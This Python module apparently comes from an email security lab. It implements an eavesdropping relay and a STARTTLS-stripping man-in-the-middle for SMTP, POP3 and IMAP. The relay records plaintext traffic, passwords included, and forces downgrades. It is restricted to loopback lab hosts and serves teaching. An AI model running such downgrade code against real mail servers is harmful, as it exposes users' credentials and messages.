"""A middlebox on the lab's path: Eve, who reads what crosses the wire, and Mallory,
who also deletes STARTTLS from what the server offers.

``lab.mitm("mx1.beta.test")`` moves that host's SMTP server to a hidden port and
listens on its public address and port in its place, so every client (the other
lab MTAs included) now talks to the middlebox, which talks to the server. With
``strip=True`` it removes ``STARTTLS`` from the EHLO reply (``STLS`` from POP3's
CAPA, ``STARTTLS`` from IMAP's capabilities) and answers a client that asks anyway
with a refusal of its own: the downgrade attack measured in the wild ("Why TLS is
better without STARTTLS", USENIX Security 2021). ``strip=False`` only listens.

Either way it keeps a *capture* of each connection: the plaintext lines as they
crossed (an eavesdropper reads them all, passwords included), and once TLS starts
only the TLS records' content types and lengths, parsed from the bytes it relays.
Captures stay in memory, in the middlebox, bounded; the event stream (which masks
credentials) gets only a note per connection. :mod:`maillab.views.eavesdrop` shows them.

It binds lab addresses only: the address of a lab host on loopback, never an
outside one.
"""

from __future__ import annotations

import asyncio
import ipaddress
import time
from collections import deque
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

from .services import FACTORIES

if TYPE_CHECKING:
    from .lab import Lab
    from .services import Service

#: Items kept per connection, connections kept per middlebox.
MAX_ITEMS = 2000
MAX_CAPTURES = 200
MAX_LINE = 8192

#: TLS record content types (RFC 8446 5.1).
RECORD_TYPES = {20: "change_cipher_spec", 21: "alert", 22: "handshake", 23: "application_data",
                24: "heartbeat"}


@dataclass
class WireItem:
    direction: str  # "C" (client to server) or "S"
    kind: str  # "line", "record" or "note"
    text: str = ""
    record_type: str | None = None
    length: int = 0
    time: float = field(default_factory=time.time)


@dataclass
class Capture:
    """One connection through the middlebox, as an eavesdropper saw it."""

    id: str
    host: str
    service: str
    protocol: str
    client: str
    strip: bool
    started: float = field(default_factory=time.time)
    server_peer: str = ""  # how the server saw the connection: its session's peer
    items: list[WireItem] = field(default_factory=list)
    dropped: int = 0
    tls: bool = False
    stripped: int = 0  # STARTTLS offers removed
    closed: bool = False

    def add(self, item: WireItem) -> None:
        if len(self.items) < MAX_ITEMS:
            self.items.append(item)
        else:
            self.dropped += 1

    def server_session(self, lab: Lab) -> str | None:
        """The id of the server's own session for this connection (its transcript)."""
        return server_sessions(lab, [self]).get(self.id)


def server_sessions(lab: Lab, caps: list[Capture]) -> dict[str, str]:
    """Capture id -> the server session it carried, found by the peer address the server
    saw (the middlebox's upstream socket); one pass over the event log for all of them."""
    wanted = {(c.host, c.server_peer): c.id for c in caps if c.server_peer}
    found: dict[str, str] = {}
    for e in lab.events.events(kinds=("opened",)):
        if e.side == "server":
            cid = wanted.get((e.host, e.data.get("peer")))
            if cid is not None:
                found[cid] = e.session
    return found


class _Records:
    """Splits one direction's bytes into TLS records (5-byte header: type, version, length)."""

    def __init__(self, capture: Capture, direction: str) -> None:
        self.capture = capture
        self.direction = direction
        self.header = b""
        self.remaining = 0

    def feed(self, data: bytes) -> None:
        view = memoryview(data)
        while view:
            if self.remaining:
                n = min(self.remaining, len(view))
                self.remaining -= n
                view = view[n:]
                continue
            need = 5 - len(self.header)
            self.header += bytes(view[:need])
            view = view[need:]
            if len(self.header) == 5:
                kind, length = self.header[0], int.from_bytes(self.header[3:5], "big")
                self.capture.add(WireItem(self.direction, "record", record_type=RECORD_TYPES.get(kind, f"type {kind}"),
                                          length=length))
                self.header, self.remaining = b"", length


@dataclass
class _Rules:
    """What STARTTLS looks like in one protocol."""

    is_starttls: Any  # client line -> bool
    go_ahead: Any  # server line -> bool
    refusal: Any  # client line -> the middlebox's own reply to a STARTTLS it will not forward


def _imap_tag(line: str) -> str:
    return line.split(" ", 1)[0] if line else "*"


RULES = {
    "smtp": _Rules(lambda ln: ln.strip().upper() == "STARTTLS", lambda ln: ln.startswith("220"),
                   lambda ln: "454 4.7.0 TLS not available due to temporary reason"),
    "pop3": _Rules(lambda ln: ln.strip().upper() == "STLS", lambda ln: ln.startswith("+OK"),
                   lambda ln: "-ERR TLS not available"),
    "imap": _Rules(lambda ln: ln.strip().upper().endswith(" STARTTLS") and len(ln.split()) == 2,
                   lambda ln: " OK" in ln[:40] and not ln.startswith("*"),
                   lambda ln: f"{_imap_tag(ln)} NO STARTTLS not available"),
}


def strip_offer(protocol: str, lines: list[str]) -> tuple[list[str], int]:
    """Remove the STARTTLS offer from one server reply (all its lines); returns the new
    lines and how many offers were removed. SMTP's multi-line reply keeps its form:
    when the offer was the last line, the line before it becomes the last."""
    removed = 0
    if protocol == "smtp":
        out = []
        for ln in lines:
            if len(ln) > 4 and ln[:3].isdigit() and ln[4:].strip().upper() == "STARTTLS":
                removed += 1
                continue
            out.append(ln)
        if removed and out and out[-1][3:4] == "-":
            out[-1] = out[-1][:3] + " " + out[-1][4:]
        return out, removed
    if protocol == "pop3":
        out = [ln for ln in lines if ln.strip().upper() != "STLS"]
        return out, len(lines) - len(out)
    out = []
    for ln in lines:
        words = ln.split(" ")
        kept = [w for w in words if w.upper().strip("[]") != "STARTTLS"]
        removed += len(words) - len(kept)
        out.append(" ".join(kept))
    return out, removed


class Middlebox:
    """A relay in front of one service of one lab host."""

    def __init__(self, lab: Lab, service: Service, *, strip: bool) -> None:
        self.lab = lab
        self.service = service
        self.strip = strip
        self.protocol = service.protocol
        self.implicit = service.tls == "implicit"
        self.public_port = service.port
        self.hidden_port = 0
        self.server: asyncio.AbstractServer | None = None
        self.captures: deque[Capture] = deque(maxlen=MAX_CAPTURES)
        self._count = 0
        self._tasks: set[asyncio.Task[Any]] = set()

    @property
    def key(self) -> str:
        return f"{self.service.hostname}/{self.service.name}"

    async def start(self) -> None:
        svc = self.service
        _check_lab_address(self.lab, svc.address)
        if svc.listener is not None:
            svc.listener.close()
            try:
                await asyncio.wait_for(svc.listener.wait_closed(), 2)
            except Exception:  # noqa: BLE001 - open sessions go on; new ones come to us
                pass
        svc.port = 0
        try:
            svc.listener = await FACTORIES[svc.name].factory(self.lab, svc)
            self.hidden_port = svc.port
        finally:
            svc.port = self.public_port  # the world still sees the public port: ours now
        self.server = await asyncio.start_server(self._handle, svc.address, self.public_port,
                                                 reuse_address=True, limit=MAX_LINE * 2)

    async def stop(self) -> None:
        if self.server is not None:
            self.server.close()
            for task in list(self._tasks):
                task.cancel()
            try:
                await asyncio.wait_for(self.server.wait_closed(), 2)
            except Exception:  # noqa: BLE001
                pass
            self.server = None
        svc = self.service
        if svc.listener is not None:
            svc.listener.close()
            try:
                await asyncio.wait_for(svc.listener.wait_closed(), 2)
            except Exception:  # noqa: BLE001
                pass
        svc.port = self.public_port
        if self.lab.started or self.lab.loop.running:
            svc.listener = await FACTORIES[svc.name].factory(self.lab, svc)

    # -- one connection ---------------------------------------------------------------------
    async def _handle(self, c_reader: asyncio.StreamReader, c_writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        if task is not None:
            self._tasks.add(task)
        peer = c_writer.get_extra_info("peername") or ("?", 0)
        self._count += 1
        cap = Capture(f"{'mitm' if self.strip else 'tap'}-{self.service.hostname}-{self._count}",
                      self.service.hostname, self.service.name, self.protocol, f"{peer[0]}:{peer[1]}", self.strip)
        self.captures.append(cap)
        self.lab.wire_captures.append(cap)
        rec = self.lab.events.session("wire", "tap", self.service.hostname, cap.client, service=self.service.name,
                                      capture=cap.id, strip=self.strip)
        try:
            try:
                # Transparent: the server sees the client's own address (any 127/8 address binds).
                s_reader, s_writer = await asyncio.wait_for(asyncio.open_connection(
                    self.service.address, self.hidden_port, local_addr=(str(peer[0]), 0),
                    limit=MAX_LINE * 2), 5)
            except (OSError, asyncio.TimeoutError) as exc:
                rec.note(f"middlebox could not reach the server: {exc}")
                return
            local = s_writer.get_extra_info("sockname") or ("?", 0)
            cap.server_peer = f"{local[0]}:{local[1]}"
            rec.note(f"{'STARTTLS-stripping middlebox' if self.strip else 'passive tap'} in front of"
                     f" {self.key}: client {cap.client} -> server as {cap.server_peer}", server_peer=cap.server_peer)
            state = {"starttls_sent": False, "tls": self.implicit}
            if self.implicit:
                cap.tls = True
            await asyncio.gather(self._client_to_server(c_reader, s_writer, c_writer, cap, state),
                                 self._server_to_client(s_reader, c_writer, cap, state),
                                 return_exceptions=True)
            for w in (s_writer, c_writer):
                w.close()
        finally:
            cap.closed = True
            if cap.stripped:
                rec.note(f"removed {cap.stripped} STARTTLS offer(s): the session stayed in plaintext",
                         stripped=cap.stripped)
            rec.close("TLS records only" if cap.tls else "plaintext: every line readable")
            c_writer.close()
            if task is not None:
                self._tasks.discard(task)

    async def _client_to_server(self, reader: asyncio.StreamReader, upstream: asyncio.StreamWriter,
                                client: asyncio.StreamWriter, cap: Capture, state: dict[str, bool]) -> None:
        rules = RULES[self.protocol]
        records = _Records(cap, "C")
        try:
            while not state["tls"] and not state["starttls_sent"]:
                line = await reader.readline()
                if not line:
                    return
                text = line.rstrip(b"\r\n").decode("utf-8", "replace")
                cap.add(WireItem("C", "line", text[:MAX_LINE]))
                if rules.is_starttls(text):
                    if self.strip:
                        refusal = rules.refusal(text)
                        cap.add(WireItem("S", "note", f"middlebox answers for the server: {refusal}"))
                        client.write(refusal.encode() + b"\r\n")
                        await client.drain()
                        continue
                    state["starttls_sent"] = True
                upstream.write(line)
                await upstream.drain()
            # TLS from here (or, if the server refused STARTTLS, plaintext again)
            while True:
                data = await reader.read(65536)
                if not data:
                    return
                if state["tls"]:
                    records.feed(data)
                else:
                    for ln in data.split(b"\n"):
                        if ln:
                            cap.add(WireItem("C", "line", ln.rstrip(b"\r").decode("utf-8", "replace")[:MAX_LINE]))
                upstream.write(data)
                await upstream.drain()
        except (ConnectionError, OSError):
            return
        finally:
            upstream.close()

    async def _server_to_client(self, reader: asyncio.StreamReader, client: asyncio.StreamWriter,
                                cap: Capture, state: dict[str, bool]) -> None:
        rules = RULES[self.protocol]
        records = _Records(cap, "S")
        try:
            while not state["tls"]:
                lines = await self._reply(reader)
                if not lines:
                    return
                if self.strip:
                    lines, removed = strip_offer(self.protocol, lines)
                    if removed:
                        cap.stripped += removed
                        cap.add(WireItem("S", "note", f"middlebox removed {removed} STARTTLS offer(s)"))
                for ln in lines:
                    cap.add(WireItem("S", "line", ln[:MAX_LINE]))
                client.write(b"".join(ln.encode("utf-8", "surrogateescape") + b"\r\n" for ln in lines))
                await client.drain()
                if state["starttls_sent"] and lines and rules.go_ahead(lines[-1]):
                    state["tls"] = cap.tls = True
                    cap.add(WireItem("S", "note", "TLS starts: from here only records can be read"))
                elif state["starttls_sent"]:
                    state["starttls_sent"] = False  # refused: both sides go on in plaintext
            while True:
                data = await reader.read(65536)
                if not data:
                    return
                records.feed(data)
                client.write(data)
                await client.drain()
        except (ConnectionError, OSError):
            return
        finally:
            client.close()

    async def _reply(self, reader: asyncio.StreamReader) -> list[str]:
        """One server reply: SMTP's multi-line reply whole, POP3's CAPA list whole
        (so an offer can be removed from it), else one line."""
        first = await reader.readline()
        if not first:
            return []
        lines = [first.rstrip(b"\r\n").decode("utf-8", "surrogateescape")]
        if self.protocol == "smtp":
            while lines[-1][3:4] == "-" and len(lines) < 100:
                more = await reader.readline()
                if not more:
                    break
                lines.append(more.rstrip(b"\r\n").decode("utf-8", "surrogateescape"))
        elif self.protocol == "pop3" and lines[0].startswith("+OK") and "capabilit" in lines[0].lower():
            while lines[-1] != "." and len(lines) < 100:
                more = await reader.readline()
                if not more:
                    break
                lines.append(more.rstrip(b"\r\n").decode("utf-8", "surrogateescape"))
        return lines


def _check_lab_address(lab: Lab, address: str) -> None:
    """The middlebox binds a lab host's loopback address, never an outside one."""
    if address not in {h.address for h in lab.topology.hosts.values()} or \
            not ipaddress.ip_address(address).is_loopback:
        raise ValueError(f"the middlebox binds lab addresses only (loopback); {address} is not one")


def install(lab: Lab, host: str, service: str = "smtp", *, strip: bool = True) -> Middlebox:
    if not lab.started:
        raise RuntimeError("start the lab first")
    if host not in lab.topology.hosts:
        raise KeyError(f"no lab host {host!r}; hosts: {', '.join(lab.topology.hosts)}")
    svc = lab.service(service, host)
    key = f"{host}/{service}"
    old = lab.middleboxes.get(key)
    if old is not None:
        if old.strip == strip:
            return old
        remove(lab, host, service)
    box = Middlebox(lab, svc, strip=strip)
    lab.loop.run(box.start(), timeout=10)
    lab.middleboxes[key] = box
    relay = getattr(lab, "relay", None)
    if relay is not None:
        relay.drop_connections(host)  # a cached session would bypass the middlebox
    lab.on_stop(_stop_all)
    _announce(lab, box, f"{'a STARTTLS-stripping middlebox' if strip else 'a passive tap'} now listens on"
                        f" {svc.address}:{box.public_port} in front of {key} (the server moved to port {box.hidden_port})")
    return box


def remove(lab: Lab, host: str, service: str = "smtp") -> Middlebox | None:
    box = lab.middleboxes.pop(f"{host}/{service}", None)
    if box is not None and lab.loop.running:
        lab.loop.run(box.stop(), timeout=10)
        _announce(lab, box, f"the middlebox in front of {box.key} is gone: the server has its port back")
    return box


def _announce(lab: Lab, box: Middlebox, text: str) -> None:
    """A short session of its own in the event stream: the transcript shows when the
    attacker arrived and left, and live views (the port map) redraw."""
    rec = lab.events.session("wire", "server", box.service.hostname, "", service=box.service.name,
                             role="middlebox", strip=box.strip)
    rec.note(text)
    rec.close("middlebox installed" if box.key in lab.middleboxes else "middlebox removed")


async def _stop_all(lab: Lab) -> None:
    for key in list(lab.middleboxes):
        box = lab.middleboxes.pop(key)
        if box.server is not None:
            box.server.close()
        for task in list(box._tasks):  # noqa: SLF001 - our own
            task.cancel()


def captures(lab: Lab) -> list[Capture]:
    """Every connection any middlebox of the lab relayed (the newest ``MAX_CAPTURES``)."""
    return list(lab.wire_captures)
